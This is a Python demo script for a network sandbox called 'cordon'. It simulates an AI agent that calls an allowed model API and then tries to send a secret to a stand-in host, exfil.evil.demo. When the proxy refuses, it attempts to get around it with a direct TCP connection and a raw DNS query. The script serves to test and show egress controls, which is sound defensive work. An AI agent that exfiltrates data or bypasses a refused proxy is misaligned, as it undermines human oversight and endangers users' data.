#!/usr/bin/python3
"""A small agent-like script for the demo. It runs inside `cordon run` and
does what agents do: call the model API it is allowed to call, try to send
data somewhere else, and, when told no, try to go around the proxy.

    demo-agent.py UPSTREAM_IP
Uses only the standard library; urllib honours HTTP_PROXY like most clients."""
import json
import socket
import sys
import time
import urllib.error
import urllib.request

upstream_ip = sys.argv[1]


def step(title):
    print("\n\033[1magent> %s\033[0m" % title, flush=True)


step("1. GET http://api.allowed.demo/v1/models  (through the proxy, allowed by policy)")
with urllib.request.urlopen("http://api.allowed.demo/v1/models", timeout=10) as r:
    print("   HTTP %d %s" % (r.status, r.read().decode().strip()))

step("2. GET http://exfil.evil.demo/upload?secret=...  (not in the policy)")
try:
    urllib.request.urlopen("http://exfil.evil.demo/upload?secret=hunter2", timeout=10)
    print("   unexpectedly allowed!")
except urllib.error.HTTPError as e:
    body = json.loads(e.read())
    print("   HTTP %d, the proxy says why:" % e.code)
    for k in ("error", "reason_code", "host", "binary", "detail", "hint", "retryable"):
        if k in body:
            print("     %-12s %s" % (k + ":", body[k]))

step("3. the proxy said no, so connect to %s:80 directly (ignoring HTTP_PROXY)" % upstream_ip)
t0 = time.monotonic()
try:
    socket.create_connection((upstream_ip, 80), timeout=30).close()
    print("   unexpectedly connected!")
except OSError as e:
    print("   %s after %.1f ms (not a 30 s timeout)" % (e.strerror, (time.monotonic() - t0) * 1000))

step("4. and a DNS query straight to %s:53" % upstream_ip)
t0 = time.monotonic()
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    s.connect((upstream_ip, 53))
    s.send(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04evil\x04demo\x00\x00\x01\x00\x01")
    s.settimeout(5)
    s.recv(512)
    print("   unexpectedly answered!")
except OSError as e:
    print("   %s after %.1f ms" % (e.strerror or e, (time.monotonic() - t0) * 1000))
finally:
    s.close()
